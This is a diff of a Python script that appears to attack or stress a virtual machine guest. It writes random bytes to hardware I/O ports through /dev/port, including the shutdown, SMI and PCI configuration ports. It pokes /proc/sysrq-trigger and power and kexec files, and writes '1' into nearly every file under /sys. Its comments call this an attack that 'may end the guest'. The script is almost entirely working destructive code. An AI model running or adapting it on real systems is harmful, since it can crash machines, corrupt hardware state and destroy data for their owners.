@@ -30,27 +30,16 @@ for directory, _, names in os.walk("/dev"):
             except (OSError, OverflowError):
                 pass
         os.close(fd)
+print("devices", seen, flush=True)
 for path in ("/proc/sysrq-trigger", "/sys/power/state", "/sys/kernel/kexec_loaded"):
     try:
         with open(path, "wb", buffering=0) as f:
             f.write(b"s")
     except OSError:
         pass
-for directory, _, names in os.walk("/sys"):
-    for name in names:
-        path = os.path.join(directory, name)
-        if name in ("remove", "unbind", "online", "uevent"):
-            continue
-        try:
-            fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK | os.O_NOFOLLOW)
-            os.write(fd, b"1")
-            os.close(fd)
-        except OSError:
-            pass
-print("devices", seen, flush=True)
 try:
     fd = os.open("/dev/port", os.O_RDWR)
-    while True:
+    for _ in range(30000):
         port = rng.choice([rng.randrange(0x10000), 0x604, 0xB2, 0xCF8, 0xCFC, 0x510, 0x511, 0x3F8])
         try:
             os.pwrite(fd, rng.randbytes(rng.choice([1, 2, 4])), port)
@@ -58,3 +47,15 @@ try:
             pass
 except OSError:
     pass
+print("ports", flush=True)  # what follows may end the guest
+for directory, _, names in os.walk("/sys"):
+    for name in names:
+        path = os.path.join(directory, name)
+        if name in ("remove", "unbind", "online", "uevent") or name.startswith("cgroup."):  # these end the attack
+            continue
+        try:
+            fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK | os.O_NOFOLLOW)
+            os.write(fd, b"1")
+            os.close(fd)
+        except OSError:
+            pass
